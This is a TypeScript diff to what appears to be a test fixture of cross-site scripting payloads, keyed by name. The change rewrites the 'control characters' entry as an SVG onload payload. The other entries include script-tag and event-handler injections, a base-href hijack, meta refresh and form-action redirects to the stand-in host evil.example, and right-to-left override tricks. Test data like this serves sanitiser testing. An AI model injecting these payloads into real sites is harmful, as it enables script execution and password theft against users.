@@ -20,7 +20,7 @@ export const payloads: Record<string, Payload> = {
   'head elements': (field) => `<base href="//evil.example/"><link rel=stylesheet href="//evil.example/${field}.css"><meta http-equiv=refresh content="0;url=//evil.example/${field}">`,
   form: (field) => `<form action="//evil.example/${field}"><input name=password><button formaction="javascript:alert('${field}')" autofocus onfocus=alert('${field}')>`,
   'right to left': (field) => `\u202E<b onclick=alert('${field}')>\u202C\u2066\u200B\uFEFF\u200D${'\u0301'.repeat(40)}`,
-  'control characters': (field) => `<scr\u0000ipt>alert('${field}')\u0007\u001B[31m\u2028\u2029</scr\u0000ipt>`,
+  'control characters': (field) => `\u0000\u0007\u001B[31m\u2028<svg\fonload=alert('${field}')\u0000>\u2029`,
   entities: (field) => `&lt;img src=x onerror=alert(&#39;${field}&#39;)&gt;&#x3c;script&#x3e;alert('${field}')`,
   'very long': (field) => `<img src=x onerror=alert('${field}')>`.repeat(150),
 };
